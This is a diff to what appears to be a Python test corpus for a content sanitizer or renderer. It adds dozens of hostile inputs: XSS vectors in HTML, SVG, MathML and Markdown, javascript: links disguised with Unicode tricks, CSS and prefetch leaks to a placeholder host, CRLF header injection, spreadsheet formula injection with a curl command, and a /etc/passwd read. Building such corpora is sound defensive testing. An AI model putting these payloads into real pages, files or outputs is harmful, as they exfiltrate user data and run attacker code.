@@ -99,6 +99,63 @@ def corpus(elsewhere: str) -> list[str]:
         found.append(f"[go][r]\n\n[r]: {scheme}{RUN}")
         found.append(f"<{scheme}{RUN}>")
 
+    # What fetches without being an element with a source: hints, rules, styles, pings, forms, headers.
+    ahead = '{"prefetch":[{"source":"list","urls":["' + at + '/rules"]}]}'
+    found += [
+        f'<meta http-equiv="refresh" content="0;url={at}/refresh">',
+        "<meta name=referrer content=unsafe-url>",
+        f"<link rel=preconnect href={at}>",
+        f"<link rel=modulepreload href={at}/module>",
+        f"<link rel=prerender href={at}/prerender>",
+        f"<link rel=manifest href={at}/manifest>",
+        f"<script type=speculationrules>{ahead}</script>",
+        f"<style>@font-face{{font-family:x;src:url({at}/font)}}*{{font-family:x}}</style>",
+        f"<style>input[value^=s]{{background:image-set(url({at}/leak) 1x)}}</style>",
+        f'<p style="--x:url({at}/variable);background:var(--x)">x</p>',
+        f"<svg><style>@import url({at}/svg-style);</style></svg>",
+        f"<svg><foreignObject><iframe src={at}/foreign></iframe></foreignObject></svg>",
+        f"<svg><filter><feImage xlink:href={at}/filter /></filter></svg>",
+        f"<a href=/ ping={at}/ping>x</a>",
+        f"<form action={at}/form><button autofocus>x</button></form>",
+        f"<button formaction=javascript:{RUN}>x</button>",
+        f"<video><source srcset={at}/set></video>",
+        f"x\r\nLink: <{at}/header>; rel=preload; as=image\r\nRefresh: 0;url={at}/refresh-header",
+        f'"; filename="x.html"\r\nLocation: {at}/named',
+        f'=HYPERLINK("{at}/cell?"&A1;"total")',
+        f'@IMPORTXML("{at}/cell","//x")',
+        f"+cmd|' /C curl {at}'!A0",
+        f'#image("{at}/typst.png") #link("{at}/typst")[x] #read("/etc/passwd")',
+        f"\\href{{javascript:{RUN}}}{{x}} $$\\includegraphics{{{at}/tex}}$$",
+        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
+        f"\x1b]8;;{at}/terminal\x1b\\x\x1b]8;;\x1b\\",
+    ]
+
+    # Links that are set, moved or disguised by something else.
+    found += [
+        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
+        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
+        f"<svg><a><set attributeName=href to=javascript:{RUN} /><text>x</text></a></svg>",
+        f"<math href=javascript:{RUN}>x</math>",
+        f"<a href=javascript:{RUN} target=_self>x</a>",
+        f"<area href=javascript:{RUN}>",
+        f"[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4= 'title {RUN}')",
+        f"[x](data:image/svg+xml,<svg onload={RUN}>)",
+        f"[x](\uff4aavascript:{RUN})",
+        f"[x](java\u00adscript:{RUN})",
+        f"[x](javascript\u2028:{RUN})",
+        f"[x](java\u200bscript:{RUN})",
+        f"[x](http:javascript:{RUN})",
+        f"[x](//{at.removeprefix('http://')}/relative)",
+        f"[x](/\\{at.removeprefix('http://')}/backslash)",
+        f"[x](/api/v1/me?{RUN})",
+        f"[https://ex\u0430mple.com]({at}/homograph)",
+        f"[x]({at}/\u202egpj.exe)",
+        f"[x](mailto:a@example.com?bcc=b@example.com&body=%0A<script>{RUN}</script>)",
+        f"www.{at.removeprefix('http://')}/by-itself a@{at.removeprefix('http://')}",
+        f"[x]: {at}/defined\n[x]: javascript:{RUN}\n\n[x] ![x]",
+        f"[{at}/a](javascript:{RUN}//{at}/b)",
+    ]
+
     # What confuses parsers: depth, length, characters without width, other directions.
     found += [
         "> " * 300 + "deep",
